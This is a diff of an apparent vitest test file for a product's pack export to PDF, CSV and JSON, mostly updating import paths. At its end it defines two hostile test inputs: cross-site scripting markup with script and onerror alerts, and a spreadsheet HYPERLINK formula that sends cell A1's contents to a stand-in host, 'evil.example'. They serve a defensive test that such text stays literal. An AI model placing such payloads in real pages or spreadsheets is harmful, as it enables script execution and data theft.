@@ -2,20 +2,20 @@
 // into a pack and exported to PDF, CSV and JSON: nothing breaks and the person's text stays literal text.
 import { beforeAll, describe, expect, it } from 'vitest';
 
-import { PRODUCT_VERSION } from '../product';
-import { parseCaseFile, serializeCaseFile } from '../case/case-file';
-import type { Case } from '../case/schema';
-import { selectReferrals } from '../referrals/select';
-import { assess } from '../triage/assess';
+import { PRODUCT_VERSION } from '../../product';
+import { parseCaseFile, serializeCaseFile } from '../../case/case-file';
+import type { Case } from '../../case/schema';
+import { selectReferrals } from '../../referrals/select';
+import { assess } from '../../triage/assess';
 import { buildPackDocument, buildRecordsCsv, PACK_PRESETS } from './build-pack';
-import type { PackFonts } from './fonts';
+import type { PackFonts } from '../pdf/fonts';
 import { redactCase } from './pack-format';
-import { renderPackPdf } from './render-pdf';
-import { extractPdfText } from './testing/extract-pdf-text';
-import { parseCsv } from './testing/parse-csv';
-import { packTranslators } from './testing/pack-translator';
-import { readPackFonts } from './testing/read-pack-fonts';
-import { SAMPLE_NOW, sampleCase } from './testing/sample-case';
+import { renderPackPdf } from '../pdf/render-pdf';
+import { extractPdfText } from '../testing/extract-pdf-text';
+import { parseCsv } from '../testing/parse-csv';
+import { packTranslators } from '../testing/pack-translator';
+import { readPackFonts } from '../testing/read-pack-fonts';
+import { SAMPLE_NOW, sampleCase } from '../testing/sample-case';
 
 const MARKUP = '<script>alert(1)</script><img src=x onerror=alert(2)>';
 const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
